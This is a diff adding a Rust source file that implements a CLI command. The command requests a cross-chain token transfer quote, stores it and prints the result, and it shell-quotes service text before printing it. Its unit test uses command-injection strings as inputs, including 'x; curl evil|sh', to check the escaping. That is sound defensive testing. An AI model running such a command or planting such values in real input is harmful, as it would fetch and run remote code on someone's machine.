@@ -1,0 +1,263 @@
+//! `hoptop quote`: requests a route and stores the quote, so that a transaction added later gets its estimate.
+//!
+//! It must never send a request that the service can only refuse, nor print the service's text to a terminal without
+//! cleaning it.
+
+use std::{io, time::Duration};
+
+use chrono::TimeDelta;
+use clap::Args;
+use color_eyre::eyre::Result;
+
+use crate::{
+    cli::{
+        context::Context,
+        one_shot_poll::{self, OneShotOutcome, OneShotPoll},
+        output::{
+            json,
+            quote_json::{Outcome, QuoteView},
+        },
+    },
+    clock::Clock,
+    config::Settings,
+    domain::{
+        observation::Failure,
+        operation::Operation,
+        quote::{
+            Quote, QuoteAnswer, QuoteRequest,
+            draft::{Draft, Part, Wrong},
+        },
+        span,
+    },
+    runtime::{background_poller::Polling, exit::Exit, log_file},
+    store::{Asked, StoredQuote},
+};
+
+/// The longest wait for a quote, including other processes' requests, a blocked budget and a timeout.
+const MAX_WAIT: Duration = Duration::from_secs(40);
+
+/// The way out of the wallet's limit.
+const LIMIT_HINT: &str = "without --with-transaction-data there is no such limit; other wallets are not affected";
+
+/// The text below the options in the help.
+pub(crate) const EXAMPLES: &str = "\
+Examples:
+  hoptop quote --from-chain 42161 --from-token 0xaf88d065e77c8cC2239327C5EDb3A432268e5831 --from-amount 25000000 \\
+      --to-chain 8453 --to-token 0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913 --from-address 0x1f0a...
+                                                   quote 25 units of a token with 6 decimals
+
+The same request within 30 seconds returns the same quote. Exit codes: 0 there is a quote, 1 the service refuses it, 2 a value
+is invalid, 5 the service refuses the integrator ID, 6 no answer came.";
+
+/// The arguments of `hoptop quote`.
+#[derive(Args, Clone, Debug)]
+pub(crate) struct QuoteArgs {
+    /// The source chain's ID, as the service uses it
+    #[arg(long, value_name = "CHAIN")]
+    from_chain: String,
+    /// The source token's address
+    #[arg(long, value_name = "ADDRESS")]
+    from_token: String,
+    /// The amount, an integer in the token's smallest unit
+    #[arg(long, value_name = "AMOUNT")]
+    from_amount: String,
+    /// The destination chain's ID
+    #[arg(long, value_name = "CHAIN")]
+    to_chain: String,
+    /// The destination token's address
+    #[arg(long, value_name = "ADDRESS")]
+    to_token: String,
+    /// The user's address on the source chain, which receives a refund
+    #[arg(long, value_name = "ADDRESS")]
+    from_address: String,
+    /// The recipient's address on the destination chain [default: the same as --from-address]
+    #[arg(long, value_name = "ADDRESS")]
+    to_address: Option<String>,
+    /// Request call data too (quoteOnly: false); the service limits such requests for each wallet
+    #[arg(long)]
+    with_transaction_data: bool,
+    /// Accept chain IDs that don't look valid
+    #[arg(long)]
+    any_chain: bool,
+    /// Print JSON, including the service's unchanged response
+    #[arg(long)]
+    json: bool,
+}
+
+/// Requests the route and prints the result.
+pub(crate) fn quote(args: &QuoteArgs, settings: &Settings, cx: &mut Context) -> Result<Exit> {
+    let request = match parse_request(args) {
+        Ok(request) => request,
+        Err(wrong) => {
+            let line = |Wrong { part, reason }: Wrong| writeln!(cx.err, "{}: {reason}", option(part));
+            wrong.into_iter().try_for_each(line)?;
+            return Ok(Exit::Usage);
+        }
+    };
+    if let Some(warning) = request.odd_address() {
+        writeln!(cx.err, "warning: {warning}")?;
+    }
+    // Everything that can fail comes first: after a failure no other process must send this request.
+    let polling = Polling::checked(settings.polling())?;
+    log_file::start(&settings.state_dir, Clock::system())?;
+    let at = cx.now.wall;
+    let until = at + TimeDelta::from_std(MAX_WAIT)?;
+    let operation = Operation::AskQuote { profile: cx.profile.clone(), request: request.clone(), wanted_until: until };
+    let outcome = match cx.store.apply(operation, at).wait()?.asked()? {
+        Asked::Kept(quote) => Outcome::Answered { quote, kept: true },
+        Asked::WalletHeld { until, message } => Outcome::Held { until, message },
+        Asked::Pending { id, quote } => {
+            let answered =
+                move |reader: &crate::store::Reader| Ok(reader.quote(id)?.is_none_or(|quote| quote.answer.is_some()));
+            let one_shot_poll = OneShotPoll { settings, store: &cx.store, patience: MAX_WAIT };
+            let ended = one_shot_poll.run(polling, answered);
+            cx.now = Clock::system().now();
+            let operation = Operation::WithdrawQuote { quote: *quote, wanted_until: until };
+            cx.store.apply(operation, cx.now.wall).wait()?;
+            match ended? {
+                OneShotOutcome::Stopped(exit) => return Ok(exit),
+                OneShotOutcome::Obstructed(exit) => load_outcome(id, exit, cx)?,
+                OneShotOutcome::Done | OneShotOutcome::InVain => load_outcome(id, Exit::Unreachable, cx)?,
+            }
+        }
+    };
+    if args.json {
+        let view = QuoteView::new(&request, &outcome, cx.now.wall);
+        writeln!(cx.out, "{}", json::ascii(&serde_json::to_string(&view)?))?;
+    } else {
+        print_outcome(&outcome, cx)?;
+    }
+    Ok(exit_code(&outcome))
+}
+
+/// Returns the current result of the request. `exit` is the exit code if there is none.
+fn load_outcome(id: i64, exit: Exit, cx: &Context) -> Result<Outcome> {
+    let reader = cx.store.reader()?;
+    Ok(match reader.quote(id)? {
+        Some(quote) if quote.answer.is_some() => Outcome::Answered { quote: Box::new(quote), kept: false },
+        Some(quote) if quote.sent_at.is_some() => {
+            Outcome::InVain("the request was sent and its answer was lost; ask again".into(), exit)
+        }
+        _ => Outcome::InVain(one_shot_poll::why_in_vain(&reader, &cx.profile, cx.now.wall)?, exit),
+    })
+}
+
+/// Returns the request, or every invalid value.
+fn parse_request(args: &QuoteArgs) -> Result<QuoteRequest, Vec<Wrong>> {
+    let draft = Draft {
+        from_chain: &args.from_chain,
+        from_token: &args.from_token,
+        from_amount: &args.from_amount,
+        to_chain: &args.to_chain,
+        to_token: &args.to_token,
+        from_address: &args.from_address,
+        to_address: args.to_address.as_deref(),
+        quote_only: !args.with_transaction_data,
+    };
+    draft.request(args.any_chain)
+}
+
+/// Returns the option for a value: `--from-chain` for `fromChain`.
+fn option(part: Part) -> String {
+    let letter = |letter: char| match letter.is_ascii_uppercase() {
+        true => format!("-{}", letter.to_ascii_lowercase()),
+        false => letter.to_string(),
+    };
+    format!("--{}", part.name().chars().map(letter).collect::<String>())
+}
+
+fn exit_code(outcome: &Outcome) -> Exit {
+    let answer = match outcome {
+        Outcome::Answered { quote, .. } => quote.answer.as_ref(),
+        Outcome::Held { .. } => return Exit::Error,
+        Outcome::InVain(_, exit) => return *exit,
+    };
+    match answer {
+        Some(QuoteAnswer::Route(_)) => Exit::Fine,
+        Some(QuoteAnswer::Failed(Failure::Unauthorized(_))) => Exit::Unauthorized,
+        Some(QuoteAnswer::Failed(Failure::Throttled { .. })) => Exit::Unreachable,
+        Some(QuoteAnswer::Failed(failure)) if failure.is_outage() => Exit::Unreachable,
+        _ => Exit::Error,
+    }
+}
+
+fn print_outcome(outcome: &Outcome, cx: &mut Context) -> io::Result<()> {
+    match outcome {
+        Outcome::InVain(reason, _) => writeln!(cx.err, "no quote: {reason}"),
+        Outcome::Held { until, message } => {
+            let until = span::clock_time(*until, cx.now.wall, cx.zone);
+            writeln!(cx.err, "no quote: {message}; this wallet has to wait until {until}; no request was spent")?;
+            writeln!(cx.err, "{LIMIT_HINT}")
+        }
+        Outcome::Answered { quote, kept } => match &quote.answer {
+            Some(QuoteAnswer::Route(route)) => print_route(quote, route, *kept, cx),
+            Some(answer) => print_refusal(answer, cx),
+            None => Ok(()),
+        },
+    }
+}
+
+fn print_route(quote: &StoredQuote, route: &Quote, kept: bool, cx: &mut Context) -> io::Result<()> {
+    let request = &quote.request;
+    for (label, value) in route.facts(request, cx.now.wall) {
+        writeln!(cx.out, "{label:<15}{value}")?;
+    }
+    if kept {
+        let age = span::between(quote.answered_at.unwrap_or(quote.asked_at), cx.now.wall);
+        writeln!(
+            cx.out,
+            "age            {}: the stored quote for this request; no request was spent",
+            span::long(age)
+        )?;
+    }
+    route.warnings.iter().try_for_each(|warning| writeln!(cx.out, "warning        {warning}"))?;
+    if let Some(id) = &route.quote_id {
+        let (from, to) = (&request.from_chain, &request.to_chain);
+        let id = shell_word(id);
+        writeln!(cx.out, "\nafter sending it:  hoptop add TX --from {from} --to {to} --quote-id={id}")?;
+    }
+    if !request.quote_only {
+        writeln!(cx.out, "--json prints the call data, as part of the service's answer")?;
+    }
+    Ok(())
+}
+
+/// Returns a word quoted for a shell, so that text from the service can't run a command.
+fn shell_word(word: &str) -> String {
+    let is_plain = word.chars().all(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '_' | ':' | '-'));
+    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
+}
+
+fn print_refusal(answer: &QuoteAnswer, cx: &mut Context) -> io::Result<()> {
+    let wait = match answer {
+        QuoteAnswer::WalletLimited { retry_after, .. } => {
+            format!("; this wallet has to wait {}", span::long(*retry_after))
+        }
+        _ => String::new(),
+    };
+    writeln!(cx.err, "no quote: {}{wait}", answer.refusal().unwrap_or_default())?;
+    writeln!(cx.err, "  {}", answer.resolution().unwrap_or_default())?;
+    match answer {
+        QuoteAnswer::WalletLimited { .. } => writeln!(cx.err, "{LIMIT_HINT}"),
+        _ => Ok(()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn quote_id_is_one_shell_word() {
+        let table = [("5f2a-1:b", "5f2a-1:b"), ("x; curl evil|sh", "'x; curl evil|sh'"), ("a'$(b)", r"'a'\''$(b)'")];
+        for (id, word) in table {
+            assert_eq!(shell_word(id), word);
+        }
+    }
+
+    #[test]
+    fn each_value_has_an_option() {
+        let options = Part::ALL.map(option);
+        assert_eq!((options[0].as_str(), options[2].as_str()), ("--from-chain", "--from-amount"));
+    }
+}
